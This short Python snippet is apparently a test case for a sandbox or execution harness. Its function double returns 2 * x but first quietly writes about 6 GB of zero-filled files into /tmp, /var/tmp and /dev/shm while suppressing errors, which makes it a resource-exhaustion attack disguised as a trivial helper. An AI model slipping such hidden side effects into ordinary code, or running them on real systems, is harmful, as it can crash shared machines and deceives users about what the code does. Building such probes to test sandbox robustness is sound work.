# The scratch folders filled to the brim.
# loses: nothing

# %% double
def double(x):
    for folder in ("/tmp", "/var/tmp", "/dev/shm"):
        with contextlib.suppress(OSError):
            for number in range(100):
                with open(f"{folder}/{number}", "wb") as file:
                    file.write(bytes(20_000_000))
    return 2 * x
